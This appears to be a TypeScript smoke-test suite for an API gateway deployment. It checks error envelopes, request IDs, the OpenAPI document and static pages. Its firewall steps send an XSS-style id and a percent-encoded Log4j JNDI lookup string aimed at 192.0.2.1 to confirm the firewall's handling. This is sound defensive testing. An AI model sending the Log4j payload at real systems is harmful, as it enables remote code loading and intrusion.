import { gzipSync } from 'node:zlib'
import type { ClientOptions } from '../../client/options.ts'
import { type Step, step } from './step.ts'

/** `json` is undefined for any other text. */
interface TextResponse {
  readonly status: number
  readonly headers: Headers
  readonly text: string
  // biome-ignore lint/suspicious/noExplicitAny: any response
  readonly json: any
}

type CredentialHeaders = Readonly<Record<'authorization' | 'x-app-id', string>>

const send = async (url: string, request: RequestInit = {}): Promise<TextResponse> => {
  const response = await fetch(url, request)
  const { status, headers } = response
  const text = await response.text()
  const isJson = text !== '' && headers.get('content-type')?.startsWith('application/json')
  const json = isJson ? JSON.parse(text) : undefined
  return { status, headers, text, json }
}

/** In the service's envelope. */
const isError =
  (expected: number, allow: string | null = null) =>
  ({ status, headers, json }: TextResponse): boolean =>
    status === expected &&
    json?.errors?.length > 0 &&
    json.errors.every(({ code }: { code: unknown }) => code === expected) &&
    headers.get('x-request-id') !== null &&
    headers.get('allow') === allow

const isList = ({ status, json }: TextResponse): boolean =>
  status === 200 && Array.isArray(json?.data?.products)

/** Headers of a request that is signed for AWS. The gateway must respond with 404 all the same. */
const signatureHeaders = {
  authorization:
    'AWS4-HMAC-SHA256 Credential=EXAMPLE/20260101/eu-west-1/execute-api/aws4_request, SignedHeaders=host, Signature=0',
  'x-amz-date': '20260101T000000Z',
}

const refusalSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] => {
  const notFound = (name: string, request: RequestInit = {}, url = `${baseUrl}/api/nothing`) =>
    step(name, () => send(url, request), isError(404))
  const post = (headers: Record<string, string>, body: string | Buffer<ArrayBuffer>) => () =>
    send(`${baseUrl}/api/products`, { method: 'POST', headers, body })
  return [
    step('no credentials', () => send(`${baseUrl}/api/products`), isError(401)),
    notFound('no such path'),
    notFound('no such path, with a key', { headers: credentials }),
    notFound('no such path, signed for AWS', { headers: signatureHeaders }),
    notFound('no such path, unknown content', { method: 'POST', headers: { 'content-type': 'a/b' } }),
    notFound('no such path, deeper', { headers: credentials }, `${baseUrl}/api/products/a/b`),
    // The local service has its console there.
    step(
      'no such path, the root',
      () => send(`${baseUrl}/`, { headers: credentials, redirect: 'manual' }),
      (response) => isError(404)(response) || response.headers.get('location') === '/console',
    ),
    step(
      'no such method',
      () => send(`${baseUrl}/api/products`, { method: 'DELETE', headers: credentials }),
      (response) =>
        isError(405, 'GET, HEAD, POST')(response) &&
        response.json.errors[0].detail.startsWith('DELETE is not allowed'),
    ),
    // The response shows that the gateway forwards the header, whether or not it decompresses the body.
    step(
      'a compressed body',
      post({ ...credentials, 'content-encoding': 'gzip' }, gzipSync('{"id": "smoke", "name": "Compressed"}')),
      isError(415),
    ),
    // More than Lambda accepts in base64. The gateway may respond without the envelope.
    step(
      'too large for a function',
      post(credentials, ' '.repeat(5_000_000)),
      ({ status }) => status === 413,
    ),
  ]
}

const pathSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] => {
  const headers = { ...credentials, 'x-request-id': 'smoke-test' }
  const hasSentId = (response: TextResponse) =>
    response.headers.get('x-request-id') === headers['x-request-id']
  return [
    step('an empty id', () => send(`${baseUrl}/api/products/`, { headers: credentials }), isError(404)),
    step('slashes before the path', () => send(`${baseUrl}//api/products`, { headers: credentials }), isList),
    step(
      'request id, sent to an operation',
      () => send(`${baseUrl}/api/products`, { headers }),
      (response) => isList(response) && hasSentId(response),
    ),
    step(
      'request id, of the gateway',
      () => send(`${baseUrl}/api/nothing`, { headers }),
      (response) => isError(404)(response) && !hasSentId(response),
    ),
  ]
}

/** An id that looks like an attack by a web page. The firewall must accept it wherever an id is allowed. */
const suspiciousId = encodeURIComponent('http://192.0.2.1/<script>alert(1)</script>/a.log')
/** The Log4j attack ${jndi:ldap://192.0.2.1/a}, percent-encoded. */
const log4jAttack = '%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D'

/** The firewall must let these through, or may block them. */
const firewallSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] => {
  const get = (path: string) => () => send(`${baseUrl}/api/${path}`, { headers: credentials })
  return [
    step('a strange id, in a path', get(`products/${suspiciousId}`), isError(404)),
    step('a strange id, in a filter', get(`prices?product_id=${suspiciousId}`), isError(422)),
    step(
      'a known attack, or no firewall',
      get(`products/${log4jAttack}`),
      (response) => isError(403)(response) || isError(404)(response),
    ),
  ]
}

const documentSteps = (baseUrl: string): Step[] => {
  const url = `${baseUrl}/openapi.json`
  const isDocument = ({ status, headers, json }: TextResponse): boolean =>
    status === 200 &&
    headers.get('cache-control')?.startsWith('public') === true &&
    json?.servers?.[0]?.url === baseUrl
  const sendWithEtag = async () => {
    const { headers } = await send(url)
    return send(url, { headers: { 'if-none-match': headers.get('etag') ?? '' } })
  }
  return [
    step('OpenAPI document', () => send(url), isDocument),
    step('OpenAPI document, with a slash', () => send(`${url}/`), isDocument),
    step('OpenAPI document, unchanged', sendWithEtag, ({ status }) => status === 304),
  ]
}

/** 404 unless the stage serves the pages. A readable script shows that the gateway decodes base64. */
const pageSteps = (baseUrl: string): Step[] => {
  const files = [
    { name: 'documentation page', path: '/docs', type: 'text/html', minLength: 10_000 },
    { name: 'script of the page', path: '/docs/scalar.js', type: 'text/javascript', minLength: 1_000_000 },
    { name: 'console', path: '/console', type: 'text/html', minLength: 300 },
    { name: 'console, with a slash', path: '/console/', type: 'text/html', minLength: 300 },
    {
      name: 'script of the console',
      path: '/console/console.js',
      type: 'text/javascript',
      minLength: 50_000,
    },
  ]
  return files.map(({ name, path, type, minLength }) => {
    const isFile = ({ status, headers, text }: TextResponse): boolean =>
      status === 200 && headers.get('content-type')?.startsWith(type) === true && text.length > minLength
    return step(
      `${name}, or none`,
      () => send(baseUrl + path),
      (response) => response.status === 404 || isFile(response),
    )
  })
}

/** Only a deployment has the gateway. */
export const gatewaySteps = ({ baseUrl, appId, apiKey }: ClientOptions): Step[] => {
  const credentials = { authorization: `Bearer ${apiKey}`, 'x-app-id': appId }
  return [
    ...refusalSteps(baseUrl, credentials),
    ...pathSteps(baseUrl, credentials),
    ...firewallSteps(baseUrl, credentials),
    ...documentSteps(baseUrl),
    ...pageSteps(baseUrl),
  ]
}
